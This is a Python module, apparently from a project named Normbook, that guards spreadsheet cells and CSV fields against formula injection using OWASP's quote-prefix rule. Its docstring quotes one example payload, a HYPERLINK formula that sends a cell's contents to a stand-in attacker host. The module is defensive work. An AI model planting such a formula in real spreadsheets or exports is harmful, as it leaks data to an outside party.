"""Text that may come from a user, into spreadsheet cells and CSV fields: kept as text.

A spreadsheet runs a formula cell, and a spreadsheet opening a CSV file reads a field that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula as well (CSV or formula injection:
``=HYPERLINK("http://evil.example/?"&B2,"click")`` in a roster's cell would come back as a
live link in the report that shows it). Every cell and CSV field Normbook writes with text
that can come from a user goes through one of the two helpers here:

- :func:`put_value` for an openpyxl cell: a ``str`` is stored as a text cell whatever it starts
  with (openpyxl alone makes ``=...`` a formula and ``#N/A`` an error value);
- :func:`csv_field` (:func:`csv_row`) for a CSV field, by the OWASP CSV-injection rule.

Formulas Normbook writes itself are assigned to cells directly, never through these.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: What a spreadsheet may read as the start of a formula (OWASP's list): ``=``, ``+``, ``-``,
#: ``@``, and tab and carriage return (a field starting with them is trimmed and then read).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# The control characters an .xlsx cannot hold (openpyxl raises IllegalCharacterError): a
# report must never fail on the text it reports, so each becomes U+FFFD, visibly.
_NOT_IN_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"

# A plain negative number ("-5", "-0.25"): no formula can hide in it (a spreadsheet reads it
# as that number), so a CSV field holding one is left as it is.
_NEGATIVE_NUMBER = re.compile(r"-\d+(?:\.\d+)?")


def put_value(cell: Any, value: Any) -> Any:
    """Set an openpyxl ``cell`` to ``value``, a ``str`` always as text; returns the cell.

    Text keeps its characters (those an .xlsx cannot hold become U+FFFD). Text that starts
    like a formula also gets the cell's quote prefix (Excel's ``'``, shown only in the formula
    bar), so that editing the cell and pressing Enter keeps it text. Other values (numbers,
    dates, None) are set as they are.
    """
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = _NOT_IN_XLSX.sub(REPLACEMENT, str(value))  # str(): a str subclass becomes plain
    cell.value = text
    cell.data_type = "s"  # not "f" for "=...", nor "e" for "#N/A"
    if text.startswith(FORMULA_START):
        cell.quotePrefix = True
    return cell


def csv_field(value: Any) -> Any:
    """A CSV field that no spreadsheet runs as a formula, still showing its text.

    OWASP's rule: a text field that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
    return gets a single quote in front (``'=HYPERLINK(...)``, ``'-``, ``'+86 138...``). The
    quote is what Excel itself uses to mark "this is text", so the value stays readable, and
    the original is the field without its first character. Chosen over dropping or escaping
    the character, which would change what the reader sees. Two exceptions, neither able to
    hold a formula: values that are not text (the report's row numbers) and text that is a
    plain negative number (``-5``, ``-0.25``), which a spreadsheet reads as that number.
    """
    if (isinstance(value, str) and value.startswith(FORMULA_START)
            and not _NEGATIVE_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_field` of each value, for ``csv.writer(...).writerow``."""
    return [csv_field(v) for v in values]
